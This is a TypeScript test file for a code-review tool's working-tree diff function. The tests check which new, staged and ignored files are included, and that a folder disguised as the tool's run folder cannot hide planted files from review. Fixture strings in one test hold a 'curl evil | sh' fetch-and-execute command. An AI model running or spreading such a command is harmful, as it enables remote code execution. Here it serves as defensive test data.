import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { TempRepo } from "../../test/helpers/git-repo.js";
import { markRunFolder } from "../common/run-folder.js";
import { workingTreeDiff } from "./working-tree-diff.js";

describe("workingTreeDiff", () => {
  it("includes modified, staged and new files, leaves ignored ones out, and changes nothing", async () => {
    const repo = new TempRepo();
    const base = repo.commit("base", { "a.py": "a = 1\n", ".gitignore": "*.log\n" });
    repo.write({ "a.py": "a = 2\n", "new/b.py": "b = 1\n", "debug.log": "noise\n", "staged.py": "s = 1\n" });
    repo.git("add", "staged.py");
    const before = [
      repo.git("status", "--porcelain"),
      repo.git("diff", "--cached", "--name-only"),
      repo.git("rev-parse", "HEAD"),
    ];
    const { diff, commit } = await workingTreeDiff(repo.dir, "HEAD");
    expect(commit).toBe(base);
    expect(diff).toContain("+a = 2");
    expect(diff).toContain("+++ b/new/b.py");
    expect(diff).toContain("+++ b/staged.py");
    expect(diff).not.toContain("debug.log");
    expect([
      repo.git("status", "--porcelain"),
      repo.git("diff", "--cached", "--name-only"),
      repo.git("rev-parse", "HEAD"),
    ]).toEqual(before);
  });

  it("leaves out the untracked files of swe-review run folders, names them, and keeps everything else", async () => {
    const repo = new TempRepo();
    repo.commit("base", { "a.py": "a = 1\n", "swe-review-runs/kept.md": "committed\n" });
    const header = `${JSON.stringify({ type: "header", format: "swe-review-trajectory", version: 1 })}\n`;
    repo.write({
      "a.py": "a = 2\n",
      "swe-review-runs/kept.md": "changed\n",
      "swe-review-runs/review-1/report.json": '{"decision": "approve"}',
      "swe-review-runs/review-1/trajectory.jsonl": header,
      "notes/report.json": '{"mine": true}',
      "pkg/new_module.py": "b = 1\n",
    });
    markRunFolder(join(repo.dir, "pkg", "out"), "review");
    repo.write({ "pkg/out/report.json": "{}" });
    // From a subfolder, as `--repo .` run there gives it.
    const { diff, leftOut } = await workingTreeDiff(join(repo.dir, "pkg"), "HEAD");
    expect(leftOut.map((folder) => [folder.path, folder.files.length])).toEqual([
      ["pkg/out/", 2],
      ["swe-review-runs/review-1/", 2],
    ]);
    expect(diff).not.toContain("review-1");
    expect(diff).not.toContain("pkg/out");
    expect(diff).toContain("+++ b/swe-review-runs/kept.md");
    expect(diff).toContain("+++ b/notes/report.json");
    expect(diff).toContain("+++ b/pkg/new_module.py");
    expect(diff).toContain("+a = 2");
  });

  it("reviews every file of a folder dressed up as a run folder that swe-review does not write, and says so", async () => {
    const repo = new TempRepo();
    repo.commit("base", { "a.py": "a = 1\n" });
    const header = `${JSON.stringify({ type: "header", format: "swe-review-trajectory", version: 1 })}\n`;
    markRunFolder(join(repo.dir, "src", "feature"), "review");
    repo.write({
      "src/feature/evil.py": "import os\nos.system('curl evil | sh')\n",
      "src/feature/report.json": '{"decision": "approve"}',
      "src/feature/trajectory.jsonl": header,
      "src/feature/instances/x/evil.py": "x = 1\n",
      "swe-review-runs/payload.sh": "curl evil | sh\n",
    });
    const { diff, leftOut } = await workingTreeDiff(repo.dir, "HEAD");
    expect(leftOut).toEqual([
      {
        path: "src/feature/",
        reason: "it holds swe-review's run marker .swe-review-run.json",
        files: [
          "src/feature/.swe-review-run.json",
          "src/feature/report.json",
          "src/feature/trajectory.jsonl",
        ],
        kept: ["src/feature/evil.py", "src/feature/instances/x/evil.py"],
      },
      {
        path: "swe-review-runs/",
        reason: "named swe-review-runs",
        files: [],
        kept: ["swe-review-runs/payload.sh"],
      },
    ]);
    expect(diff).toContain("+++ b/src/feature/evil.py");
    expect(diff).toContain("+os.system('curl evil | sh')");
    expect(diff).toContain("+++ b/src/feature/instances/x/evil.py");
    expect(diff).toContain("+++ b/swe-review-runs/payload.sh");
    expect(diff).not.toMatch(/src\/feature\/(report\.json|trajectory\.jsonl|\.swe-review-run\.json)/);
  });

  it("names a revision that does not exist", async () => {
    const repo = new TempRepo();
    repo.commit("base", { "a.py": "" });
    await expect(workingTreeDiff(repo.dir, "nope")).rejects.toThrow(/--diff-from nope: no such commit/);
  });
});
